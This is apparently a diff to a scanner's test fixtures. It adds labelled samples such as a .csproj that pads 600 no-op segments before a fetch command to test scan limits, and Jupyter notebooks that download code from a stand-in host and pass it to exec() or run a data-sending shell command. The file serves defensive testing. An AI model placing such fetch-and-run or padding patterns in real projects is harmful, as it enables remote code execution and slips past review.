@@ -803,7 +803,18 @@ code("unasked-good/.githooks/post-checkout", "#!/bin/sh\ncurl -LsSf https://astr
 code("unasked-good/.envrc", "use flake\nsource <(kubectl completion bash)\ncurl -s https://x.example/rc >rc\n", "clean")
 code("unasked-good/Makefile", f"V := $(shell curl -s https://x.example/v | head -1)\ninstall:\n\t{FETCH}\n", "clean")
 code("unasked-good/pom.xml", f"<project><!-- <argument>{FETCH}</argument> --><argument>-c</argument><argument>npm ci &amp;&amp; npm run build</argument></project>\n", "clean")
+code("unasked-long/a.csproj", "<Project><Exec Command=\"" + ": ; " * 600 + FETCH + "\" /></Project>\n", "unscanned", "code.limit")
+code("unasked-good/list.csproj", "<Project><None Include=\"" + "a/b.txt;" * 600 + "\" /></Project>\n", "clean")
 code("unasked-good/a.csproj", "<Project>\n <Target Name=\"a\"><Exec Command=\"powershell -f &quot;$(ProjectDir)s.ps1&quot;\" /></Target>\n</Project>\n", "clean")
+# --- notebooks
+def notebook(name, verdict, rule, *cells, **metadata):
+    code(name, {"cells": [{"cell_type": "code", "metadata": {}, "outputs": [{"text": "eval(x)"}], "source": c} for c in cells], "metadata": metadata, "nbformat": 4}, verdict, rule)
+notebook("notebook.ipynb", "bad", "code.runs-fetched", ["import requests\n", "x = requests.get('https://x.example/a').text"], "exec(x)\n")
+notebook("notebook-command.ipynb", "bad", "code.command", [f"!{SENDS}\n", "x = 1"])
+notebook("notebook-cell.ipynb", "bad", "code.command", f"%%bash\ntrue\n{SENDS}\n")
+notebook("notebook-good.ipynb", "clean", "-", ["%pip install requests\n", "import requests\n", "x = requests.get('https://x.example/a').text"], "!wget -q https://x.example/a.csv\n", f'say("{SENDS}")', "print(x)")
+notebook("notebook-other-good.ipynb", "clean", "-", "x <- eval(parse(text = '1'))", language_info={"name": "R"})
+code("notebook-broken-good.ipynb", '{"cells": ', "clean")
 def skill(name, rule, bad, good):
     pair(f"skills/a/{name}", rule, "suspicious", bad, good)
     code(f"other/{name}", bad, "clean")
